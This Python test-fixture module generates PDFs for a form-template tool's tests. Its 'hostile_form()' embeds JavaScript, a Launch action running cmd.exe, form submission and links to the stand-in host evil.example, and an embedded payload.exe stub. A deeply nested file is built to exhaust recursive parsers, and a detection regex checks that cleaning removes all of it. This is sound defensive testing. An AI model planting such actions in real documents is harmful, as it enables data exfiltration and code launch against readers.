"""Real PDF files for the PDF-template tests, made with reportlab: fillable forms, plain pages, hostile ones."""

from __future__ import annotations

import re
from io import BytesIO

from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

#: The fields ``contract_form()`` has, on page 1.
CONTRACT_FIELDS = ("name", "city", "position", "salary", "contract_number")


def _body(c, page: int) -> None:
    c.setFont("Helvetica", 11)
    c.drawString(72, 800, f"Employment agreement, page {page}")
    for i in range(36):
        c.drawString(72, 770 - i * 15, "The Employee shall perform the duties of the position with care.")


def contract_form(
    *,
    pages: int = 2,
    fields=CONTRACT_FIELDS,
    signature: bool = False,
    checkbox: bool = False,
    multiline: str | None = None,
) -> bytes:
    """A 2-page contract whose page 1 has one text field per name in ``fields`` (AcroForm, as Acrobat makes)."""
    buffer = BytesIO()
    c = canvas.Canvas(buffer, pagesize=A4)
    for page in range(1, pages + 1):
        _body(c, page)
        if page == 1:
            for i, name in enumerate(fields):
                y = 180 - i * 22
                c.drawString(72, y + 5, f"{name}:")
                c.acroForm.textfield(
                    name=name,
                    x=200,
                    y=y,
                    width=250,
                    height=18,
                    fontName="Helvetica",
                    fontSize=11,
                    borderWidth=0,
                    fillColor=None,
                )
            if multiline:
                c.acroForm.textfield(
                    name=multiline,
                    x=72,
                    y=20,
                    width=300,
                    height=40,
                    fontSize=9,
                    fieldFlags="multiline",
                    borderWidth=0,
                    fillColor=None,
                )
            if checkbox:
                c.acroForm.checkbox(name="agree", x=460, y=180, size=14, checked=True)
        if page == pages and signature:
            c.drawString(300, 110, "Signature:")
            c.acroForm.textfield(name="signature", x=300, y=40, width=200, height=60, borderWidth=1)
        c.showPage()
    c.save()
    return buffer.getvalue()


def plain_pdf(*, pages: int = 1, text: str = "Plain page") -> bytes:
    """A PDF without form fields, as a scanner or "print to PDF" makes."""
    buffer = BytesIO()
    c = canvas.Canvas(buffer, pagesize=A4)
    for page in range(1, pages + 1):
        _body(c, page)
        c.drawString(72, 120, f"{text} {page}")
        c.showPage()
    c.save()
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    """A form protected with a user password (and one without: owner restrictions only, still encrypted)."""
    buffer = BytesIO()
    c = canvas.Canvas(buffer, pagesize=A4, encrypt="secret")
    _body(c, 1)
    c.showPage()
    c.save()
    return buffer.getvalue()


def xfa_form(*, dynamic: bool = False) -> bytes:
    """A form whose AcroForm carries an XFA packet, as LiveCycle Designer saves: beside its AcroForm fields, or
    ``dynamic`` (its pages a placeholder a viewer replaces with what the XFA draws, /NeedsRendering)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import BooleanObject, NameObject, StreamObject

    writer = PdfWriter(clone_from=PdfReader(BytesIO(contract_form())))
    xfa = StreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    writer.root_object["/AcroForm"][NameObject("/XFA")] = writer._add_object(xfa)
    if dynamic:
        writer.root_object[NameObject("/NeedsRendering")] = BooleanObject(True)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_object(value):
    """Python values as pypdf objects: ``"/Name"`` a name, other text a string, lists arrays, dicts dictionaries."""
    from pypdf.generic import (
        ArrayObject,
        BooleanObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        PdfObject,
        TextStringObject,
    )

    if isinstance(value, PdfObject):
        return value
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, float):
        return FloatObject(value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, list):
        return ArrayObject(_pdf_object(v) for v in value)
    return DictionaryObject({NameObject(k): _pdf_object(v) for k, v in value.items()})


#: What ``hostile_form()`` embeds as payload.exe: found in no document made from it once it is cleaned.
PAYLOAD = b"MZ\x90\x00 bulksign-test-payload"
#: The one link of ``hostile_form()`` that stays: a plain https address.
HTTPS_LINK = "https://example.com/terms"


def hostile_form() -> bytes:
    """``contract_form(fields=("name", "email", "salary"), signature=True)`` carrying each kind of active content:
    JavaScript on opening (chained to itself, a cycle), in the names tree, on the catalog, a page, a field and a
    widget; links that start cmd.exe, open an http address, submit the form, import data, open other files; an https
    link and one to page 2 (harmless); an embedded payload.exe, a file attachment of it, rich media and XFA."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter(clone_from=PdfReader(BytesIO(contract_form(fields=("name", "email", "salary"), signature=True))))
    root, page = writer.root_object, writer.pages[0]

    def add(value):
        return writer._add_object(_pdf_object(value))

    def stream(data: bytes, **entries):
        obj = StreamObject()
        obj.set_data(data)
        obj.update(_pdf_object(entries))
        return writer._add_object(obj.flate_encode())

    def js(code: str):
        return {"/S": "/JavaScript", "/JS": code}

    opening = add(js("app.alert('opened')"))
    opening.get_object()[NameObject("/Next")] = opening  # a cycle the cleaning must not follow for ever
    payload = stream(PAYLOAD, **{"/Type": "/EmbeddedFile"})
    filespec = add({"/Type": "/Filespec", "/F": "payload.exe", "/UF": "payload.exe", "/EF": {"/F": payload}})
    root[NameObject("/OpenAction")] = opening
    root[NameObject("/AA")] = _pdf_object({"/WC": js("app.alert('closing')")})
    root[NameObject("/Names")] = _pdf_object(
        {
            "/JavaScript": {"/Names": ["startup", add(js("app.launchURL('http://evil.example/')"))]},
            "/EmbeddedFiles": {"/Names": ["payload.exe", filespec]},
        }
    )
    root["/AcroForm"][NameObject("/XFA")] = stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    page[NameObject("/AA")] = _pdf_object({"/O": js("app.alert('page')")})
    for widget in page["/Annots"]:
        widget = widget.get_object()
        if widget.get("/T") == "name":
            widget[NameObject("/AA")] = _pdf_object({"/K": js("event.value = 'x'")})
            widget[NameObject("/A")] = _pdf_object(
                {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "http://evil.example/"}}
            )

    def link(y: int, action: dict) -> dict:
        return {
            "/Type": "/Annot",
            "/Subtype": "/Link",
            "/Rect": [72, y, 272, y + 14],
            "/Border": [0, 0, 0],
            "/A": action,
        }

    annotations = [
        link(700, {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}}),
        link(680, {"/S": "/URI", "/URI": "http://evil.example/login"}),
        link(660, {"/S": "/URI", "/URI": HTTPS_LINK}),
        link(560, {"/S": "/GoTo", "/D": [writer.pages[1].indirect_reference, "/Fit"]}),  # to page 2: harmless
        link(640, {"/S": "/SubmitForm", "/F": "http://evil.example/collect"}),
        link(620, {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]}),
        link(600, {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "payload.exe"}, "/D": [0, "/Fit"]}),
        link(580, {"/S": "/ImportData", "/F": "data.fdf"}),
        {
            "/Type": "/Annot",
            "/Subtype": "/FileAttachment",
            "/Rect": [300, 700, 320, 720],
            "/FS": filespec,
            "/Name": "/Paperclip",
        },
        {
            "/Type": "/Annot",
            "/Subtype": "/RichMedia",
            "/Rect": [300, 600, 500, 680],
            "/RichMediaContent": {"/Assets": {"/Names": ["movie.swf", filespec]}},
        },
    ]
    for annotation in annotations:
        page["/Annots"].append(add(annotation))
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def nested_pdf(depth: int) -> bytes:
    """A one-page PDF whose page holds an array nested ``depth`` deep, written by hand: pypdf writes nesting
    recursively, so it cannot make a file that exhausts a recursive reader."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep " + b"[" * depth + b"]" * depth + b" >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


#: What no template may keep once it is saved, nor any document made from it: names of actions, scripts, files and
#: media (as names, delimited), the files and programs ``hostile_form()`` points at, its payload.
ACTIVE = re.compile(
    rb"/(JS|JavaScript|Launch|EmbeddedFiles?|AA|XFA|RichMedia|FileAttachment|SubmitForm|ImportData"
    rb"|GoToR|GoToE|OpenAction)(?![^\s()<>\[\]{}/%])|payload\.exe|cmd\.exe|evil\.example|" + re.escape(PAYLOAD)
)


def active_content(pdf: bytes) -> set[str]:
    """What of ``ACTIVE`` is anywhere in ``pdf``: in its bytes (every revision of an incrementally updated file), and
    in every name, string and decoded stream of every object it lists (object streams, compressed files)."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, StreamObject

    def search(data: bytes) -> set[str]:
        return {m.group().decode("latin-1") for m in ACTIVE.finditer(data)}

    found = search(pdf)
    reader = PdfReader(BytesIO(pdf))
    for number in {n for table in reader.xref.values() for n in table} | set(reader.xref_objStm):
        stack = [reader.get_object(number)]
        while stack:
            obj = stack.pop()
            if isinstance(obj, StreamObject):
                found |= search(obj.get_data())
            if isinstance(obj, DictionaryObject):
                stack.extend([*obj.keys(), *dict.values(obj)])
            elif isinstance(obj, ArrayObject):
                stack.extend(obj)
            elif isinstance(obj, (str, bytes)):
                found |= search(obj.encode() if isinstance(obj, str) else obj)
    return found
